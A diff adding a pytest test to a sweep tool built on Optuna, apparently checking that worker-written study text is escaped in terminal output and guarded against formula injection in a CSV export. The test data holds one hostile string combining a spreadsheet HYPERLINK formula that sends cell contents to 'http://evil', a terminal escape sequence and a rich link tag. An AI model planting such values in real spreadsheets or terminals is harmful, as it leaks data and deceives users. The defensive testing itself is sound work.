@@ -2,6 +2,8 @@
 
 import csv
 import os
+import re
+import shlex
 import signal
 import subprocess
 import sys
@@ -14,7 +16,7 @@ import yaml
 from optuna.trial import TrialState
 
 from template.commands import main
-from template.tools.sweep import one_process, read_space
+from template.tools.sweep import one_process, read_space, report, same_study
 
 SPACE = "model.optimizer.init_args.lr: {type: float, low: 1.0e-3, high: 3.0e-3, log: true}\n"
 # Short trials: few steps, two epochs so that a trial can be pruned after its first.
@@ -199,3 +201,32 @@ def test_a_storage_url_that_cannot_be_opened_is_named_with_what_to_give(tmp_path
         main(["sweep", "--space", "lr.yaml", "--n_trials", "1", "--storage", "nosuchdb://host/optuna"])
     err = capsys.readouterr().err
     assert "--storage nosuchdb://host/optuna: " in err and "give a database URL SQLAlchemy knows" in err
+
+
+def test_a_study_s_text_is_shown_and_written_as_text_never_as_escapes_markup_or_formulas(tmp_path, monkeypatch, capsys):
+    """Fit options, parameter names and values are any worker's to write into the study's database."""
+    study = started_study(tmp_path, monkeypatch)
+    hostile = '=HYPERLINK("http://evil/?x="&A2,"open")\x1b]0;PWNED\x07[link=https://evil]click[/link]'
+    space = read_space("lr.yaml")
+    study.set_user_attr("space", space)
+    study.set_user_attr("fit_options", ["--trainer.max_epochs=1", hostile])
+    choices = optuna.distributions.CategoricalDistribution([hostile])
+    study.add_trial(optuna.trial.create_trial(params={hostile: hostile}, distributions={hostile: choices}, value=0.5))
+
+    same_study(study, space, ["--trainer.max_epochs=2"])
+    note = capsys.readouterr().err
+    shown = hostile.replace("\x1b", "\\x1b").replace("\x07", "\\x07")  # as Python writes them: no escape sequence
+    assert "\x1b" not in note and "\x07" not in note
+    theirs = re.search(r"started with the fit options (.*); this worker's", note).group(1)
+    assert shlex.split(theirs) == ["--trainer.max_epochs=1", shown]  # quoted one by one, as they would be pasted
+
+    report(study, tmp_path / "runs" / "lr", "val/acc", space, [])
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "PWNED" in out
+    assert "[link=https://evil]click[/link]" in out  # rich's markup shown as text, not made a link
+    assert "passed over" in out and "no best.yaml" in out  # a trial outside the space
+    text = (tmp_path / "runs" / "lr" / "trials.csv").read_text()
+    assert "\x1b" not in text and "\x07" not in text
+    header, row = list(csv.reader(text.splitlines()))
+    assert header[3] == row[3] == "'" + shown
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header + row)
